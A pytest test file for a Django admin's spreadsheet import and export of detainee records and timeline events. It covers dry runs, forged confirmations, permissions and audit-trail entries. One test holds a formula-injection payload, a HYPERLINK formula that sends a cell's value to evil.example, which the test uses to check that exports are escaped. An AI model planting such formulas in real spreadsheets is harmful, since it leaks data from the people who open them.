"""Detainees and timeline events in and out of the admin as spreadsheets.

An import is a dry run first: every row's errors (row, column, message, in the reader's
language) are shown and nothing is saved; only a file without errors can be confirmed, and a
file with a bad row saves nothing, even when its confirmation is forged. Confirmed imports
are in the trail. Exports are staff-only, include hidden records, are never cached and are
safe to open in a spreadsheet.
"""

import datetime
import io

import pytest
from django.contrib.auth.models import Permission
from django.contrib.contenttypes.models import ContentType
from openpyxl import load_workbook

from common.imports import ShortLivedCacheStorage
from common.models import TrailEntry
from conftest import (
    XLSX,
    confirm,
    csv_file,
    csv_rows,
    download,
    dry_run,
    export_form_data,
    make_detainee,
    make_staff,
    make_user,
    signed_in,
    xlsx_file,
)
from prisoners.models import Category, Detainee, Status, TimelineEvent, Visibility

IMPORT = "/en/admin/prisoners/detainee/import/"
CONFIRM = "/en/admin/prisoners/detainee/process_import/"
EXPORT = "/en/admin/prisoners/detainee/export/"
EVENTS_IMPORT = "/en/admin/prisoners/timelineevent/import/"
EVENTS_CONFIRM = "/en/admin/prisoners/timelineevent/process_import/"

HEADER = ["slug", "name_en", "name_fr", "name_hy", "category", "status", "visibility",
          "captured_on"]  # fmt: skip
GOOD = ["", "Vicken Euljekjian", "Vicken Euljekjian", "Վիգեն Էուլջեքջյան", "POW", "HELD",
        "HIDDEN", "2023-10-03"]  # fmt: skip
# Labels in Armenian are read as their codes.
GOOD_IN_ARMENIAN = ["", "Gevorg Sujyan", "Guévorg Soudjian", "Գևորգ Սուջյան", "Ռազմագերի",
                    "Կալանքի տակ", "HIDDEN", "2020-12-13"]  # fmt: skip
BAD_VISIBILITY = ["", "Ludvig Mkrtchyan", "Ludvig Mkrtchian", "Լյուդվիգ Մկրտչյան", "POW",
                  "HELD", "SECRET", "2020-12-13"]  # fmt: skip


@pytest.fixture
def staff(alice):
    return signed_in(alice)


def test_a_dry_run_with_a_bad_row_saves_nothing_and_shows_the_row_s_error(staff):
    response = dry_run(staff, IMPORT, csv_file([HEADER, GOOD, BAD_VISIBILITY]))
    assert response.status_code == 200
    result = response.context["result"]
    [invalid] = result.invalid_rows
    assert invalid.number == 2
    assert "visibility" in invalid.field_specific_errors
    page = response.content.decode()
    # Written out in a list, not only in a box shown on hover.
    assert (
        "<li>Row 2, column <code>visibility</code>: Value &#x27;SECRET&#x27; is not a valid "
        "choice.</li>"
    ) in page
    # No confirmation offered, nothing saved, nothing in the trail.
    assert "confirm_form" not in response.context
    assert 'action="/en/admin/prisoners/detainee/process_import/"' not in page
    assert Detainee.objects.count() == 0
    assert not TrailEntry.objects.filter(action="import").exists()


def test_the_dry_run_s_errors_are_in_the_reader_s_language(staff):
    response = dry_run(staff, IMPORT.replace("/en/", "/fr/"), csv_file([HEADER, BAD_VISIBILITY]))
    assert "n’est pas un choix valide" in response.content.decode()


def test_a_good_file_is_saved_only_when_confirmed_and_the_import_is_in_the_trail(staff):
    response = dry_run(staff, IMPORT, csv_file([HEADER, GOOD, GOOD_IN_ARMENIAN]))
    assert response.context["result"].totals["new"] == 2
    assert Detainee.objects.count() == 0  # the dry run saved nothing

    response = confirm(staff, CONFIRM, response)
    assert response.status_code == 302
    gevorg = Detainee.objects.get(name_en="Gevorg Sujyan")
    assert gevorg.name_hy == "Գևորգ Սուջյան"
    assert gevorg.name_fr == "Guévorg Soudjian"
    assert (gevorg.category, gevorg.status) == (Category.POW, Status.HELD)
    assert gevorg.captured_on == datetime.date(2020, 12, 13)
    assert gevorg.slug  # chosen by save(), random for a hidden record

    entry = TrailEntry.objects.get(action="import")
    assert entry.content_type == ContentType.objects.get_for_model(Detainee)
    assert entry.details == {
        "new": 2, "updated": 0, "skipped": 0, "errors": 0, "file": "liste.csv"
    }  # fmt: skip
    # Who was imported is in the records, not in the trail.
    assert "Sujyan" not in f"{entry.object_repr} {entry.reason} {entry.details}"
    trail_list = staff.get("/en/admin/common/trailentry/").content.decode()
    assert "imported a spreadsheet" in trail_list and "detainees" in trail_list


def test_a_forged_confirmation_of_a_file_with_a_bad_row_saves_nothing(staff):
    """The confirmation reads the file again and imports it in one transaction: a bad row
    rolls back the good ones, whatever the form says."""
    storage = ShortLivedCacheStorage(encoding="utf-8-sig", read_mode="r")
    storage.save(csv_file([HEADER, GOOD, BAD_VISIBILITY]).read().decode("utf-8-sig"))
    data = {"import_file_name": storage.name, "original_file_name": "x.csv", "format": "0"}
    response = staff.post(CONFIRM, data)
    assert response.status_code == 302
    assert response["Location"] == IMPORT
    assert Detainee.objects.count() == 0
    assert not TrailEntry.objects.filter(action="import").exists()


def test_an_import_cannot_give_a_limited_record_an_address_with_the_name(staff):
    row = ["vicken-euljekjian", "Vicken Euljekjian", "", "", "POW", "HELD", "LIMITED", ""]
    response = dry_run(staff, IMPORT, csv_file([HEADER, row]))
    [invalid] = response.context["result"].invalid_rows
    assert "slug" in invalid.field_specific_errors
    assert Detainee.objects.count() == 0


def test_a_row_with_a_known_slug_updates_that_record_and_a_photo_column_is_ignored(staff, media):
    make_detainee(slug="ani-karapetyan", visibility=Visibility.PUBLIC)
    header = ["slug", "name_en", "status", "photo"]
    row = ["ani-karapetyan", "Ani Karapetyan", "RELEASED", "detainees/portrait.jpg"]
    response = confirm(staff, CONFIRM, dry_run(staff, IMPORT, csv_file([header, row])))
    assert response.status_code == 302
    ani = Detainee.objects.get()
    assert ani.status == Status.RELEASED
    assert not ani.photo
    assert TrailEntry.objects.get(action="import").details["updated"] == 1


def test_an_excel_file_is_imported_too(staff):
    upload = xlsx_file([HEADER, [*GOOD[:7], datetime.date(2023, 10, 3)]])
    response = confirm(staff, CONFIRM, dry_run(staff, IMPORT, upload, file_format=XLSX))
    assert response.status_code == 302
    assert Detainee.objects.get().captured_on == datetime.date(2023, 10, 3)


# Export -------------------------------------------------------------------------------------


def export(client, url=EXPORT, **overrides):
    form = client.get(url).context["form"]
    return client.post(url, export_form_data(form, **overrides))


def test_the_detainee_export_holds_hidden_records_and_is_never_cached(staff):
    make_detainee(slug="ani-karapetyan")
    hidden = make_detainee(slug="", name="Hidden Person", visibility=Visibility.HIDDEN)
    response = export(staff)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    cache_control = response["Cache-Control"]
    assert "private" in cache_control and "no-store" in cache_control
    rows = {row["slug"]: row for row in csv_rows(response)}
    assert set(rows) == {"ani-karapetyan", hidden.slug}
    assert rows["ani-karapetyan"]["name_hy"] == "Անի Կարապետյան"
    assert rows["ani-karapetyan"]["captured_on"] == "2023-09-28"
    assert rows[hidden.slug]["visibility"] == "HIDDEN"
    # Private fields stay out of spreadsheets.
    assert "family_contact" not in rows[hidden.slug]
    assert "internal_notes" not in rows[hidden.slug]
    assert TrailEntry.objects.get(action="export_spreadsheet").details["rows"] == 2


def test_exported_cells_cannot_run_as_formulas_and_import_back_unchanged(staff):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    make_detainee(slug="ani-karapetyan", capture_place_en=formula)
    response = export(staff)
    [row] = csv_rows(response)
    assert row["capture_place_en"] == "'" + formula

    workbook = load_workbook(io.BytesIO(download(export(staff, format=XLSX))))
    cells = [cell.value for cell in workbook.active[2]]
    assert "'" + formula in cells
    assert all(cell.data_type != "f" for cell in workbook.active[2])

    upload = csv_file([list(row), list(row.values())])
    response = dry_run(staff, IMPORT, upload)
    assert response.context["result"].totals["skip"] == 1  # nothing would change
    confirm(staff, CONFIRM, response)
    assert Detainee.objects.get().capture_place_en == formula


# Roles --------------------------------------------------------------------------------------


def test_finance_can_neither_export_nor_import_detainees(db):
    make_detainee()
    finance = signed_in(make_staff("finance@example.org", "Finance"))
    assert finance.get(EXPORT).status_code == 403
    assert finance.post(EXPORT, {"format": "0", "resource": "0"}).status_code == 403
    assert finance.get(IMPORT).status_code == 403
    assert dry_run(finance, IMPORT, csv_file([HEADER, GOOD])).status_code == 403
    assert Detainee.objects.count() == 1


@pytest.mark.parametrize("rights", [["view"], ["view", "add"], ["view", "change"]])
def test_staff_without_the_right_to_add_and_change_cannot_import(db, rights):
    user = make_user("reader@example.org", is_staff=True)
    user.user_permissions.set(
        Permission.objects.filter(codename__in=[f"{right}_detainee" for right in rights])
    )
    client = signed_in(user)
    assert client.get(IMPORT).status_code == 403
    assert dry_run(client, IMPORT, csv_file([HEADER, GOOD])).status_code == 403
    storage = ShortLivedCacheStorage(encoding="utf-8-sig", read_mode="r")
    storage.save(csv_file([HEADER, GOOD]).read().decode("utf-8-sig"))
    data = {"import_file_name": storage.name, "original_file_name": "x.csv", "format": "0"}
    assert client.post(CONFIRM, data).status_code == 403
    assert Detainee.objects.count() == 0


def test_editors_import_and_export_detainees(editor):
    client = signed_in(editor)
    response = confirm(client, CONFIRM, dry_run(client, IMPORT, csv_file([HEADER, GOOD])))
    assert response.status_code == 302
    assert Detainee.objects.count() == 1
    assert export(client).status_code == 200


# Timeline events ----------------------------------------------------------------------------

EVENT_HEADER = ["detainee", "date", "kind", "text_en", "text_fr", "text_hy"]


def test_timeline_events_are_imported_by_the_detainee_s_address_once(staff):
    ani = make_detainee(slug="ani-karapetyan")
    row = ["ani-karapetyan", "2024-05-14", "HEARING", "First hearing in Baku",
           "Première audience à Bakou", "Առաջին նիստը Բաքվում"]  # fmt: skip
    for _time in range(2):  # the same list twice: one event
        confirm(staff, EVENTS_CONFIRM, dry_run(staff, EVENTS_IMPORT, csv_file([EVENT_HEADER, row])))
    event = TimelineEvent.objects.get()
    assert (event.detainee, event.kind, event.text_fr) == (
        ani,
        TimelineEvent.Kind.HEARING,
        "Première audience à Bakou",
    )


def test_a_timeline_event_of_an_unknown_detainee_is_a_row_error(staff):
    make_detainee(slug="ani-karapetyan")
    rows = [EVENT_HEADER, ["ani-karapetyan", "2024-05-14", "HEARING", "", "", ""],
            ["nobody-here", "2024-05-14", "HEARING", "", "", ""]]  # fmt: skip
    response = dry_run(staff, EVENTS_IMPORT, csv_file(rows))
    [invalid] = response.context["result"].invalid_rows
    assert invalid.number == 2
    assert "nobody-here" in response.content.decode()
    assert TimelineEvent.objects.count() == 0
